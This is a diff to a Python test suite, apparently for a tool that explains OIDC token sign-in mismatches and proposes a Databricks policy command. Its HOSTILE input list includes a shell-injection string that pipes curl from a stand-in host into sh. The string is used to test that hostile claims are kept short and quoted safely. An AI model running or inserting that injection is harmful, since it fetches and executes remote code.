@@ -146,7 +146,12 @@ def test_a_subject_of_github_is_shown_in_its_other_format_too(
     assert (shown in mismatch(told).advice.splitlines()) == (other is not None)
 
 
-HOSTILE = [*EVERYTHING, "a\n" * 5_000, "`" * 10_000, "'; curl evil.example | sh; '"]
+HOSTILE = [
+    *filter(None, EVERYTHING),
+    "a\n" * 5_000,
+    "`" * 10_000,
+    "'; curl evil.example | sh; '",
+]
 
 
 def lines_of(problem: SignInProblem) -> int:
@@ -166,7 +171,22 @@ def test_a_hostile_claim_stays_one_short_line(claim: str, hostile: str) -> None:
     assert lines_of(mismatch({**plain, claim: in_a_list}, audience=None)) == usual
 
 
-@given(st.text(), st.text(), st.text())
+@pytest.mark.parametrize("told", [{}, {"iss": ISSUER}, {"sub": SUBJECT}, {"aud": "a"}])
+@pytest.mark.parametrize("audience", [TOKEN_URL, None])
+def test_no_policy_is_made_up_for_a_token_that_says_too_little(
+    told: dict[str, Json], audience: str | None
+) -> None:
+    assert "databricks account" not in mismatch(told, audience).advice
+
+
+def test_a_long_claim_is_cut_and_the_cut_shows() -> None:
+    advised = mismatch({**CLAIMS, "sub": "x" * 10_000}, client="y" * 10_000).advice
+    lines = advised.splitlines()
+    assert f"  subject (sub): {'x' * 299}…" in lines
+    assert f"client-id (the application id): {'y' * 99}…" in lines
+
+
+@given(st.text(min_size=1), st.text(min_size=1), st.text())
 def test_what_is_pasted_is_one_argument_whatever_a_branch_is_called(
     issuer: str, subject: str, audience: str
 ) -> None:
@@ -182,10 +202,12 @@ def test_a_subject_with_a_quote_is_pasted_as_it_is() -> None:
     assert policy["oidc_policy"]["subject"] == branch
 
 
-@pytest.mark.xfail(reason="an audience is cut, their number is not")
 def test_a_token_for_thousands_of_audiences_is_told_in_short_lines() -> None:
     audiences: list[Json] = [f"audience-{number}" for number in range(5_000)]
-    assert lines_of(mismatch({**CLAIMS, "aud": audiences}, audience=None))
+    problem = mismatch({**CLAIMS, "aud": audiences}, audience=None)
+    assert lines_of(problem)
+    policy = json.loads(command(problem)[-1])["oidc_policy"]
+    assert policy["audiences"] == audiences[:5]
 
 
 @pytest.mark.parametrize("hostile", HOSTILE)
